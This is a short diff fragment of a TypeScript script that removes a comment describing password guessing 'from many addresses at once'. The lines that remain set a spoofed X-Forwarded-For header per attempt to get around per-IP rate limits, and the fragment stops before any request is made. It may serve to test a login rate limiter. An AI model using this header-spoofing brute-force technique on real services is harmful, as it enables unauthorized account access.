@@ -1,4 +1,3 @@
-/** Guesses a password from many addresses at once. Prints the statuses of the responses. */
 const { GUESS_URL = '', ATTEMPTS = '' } = process.env
 const guess = async (n: number) => {
   const headers = { 'content-type': 'application/json', 'x-forwarded-for': `203.0.113.${n}` }
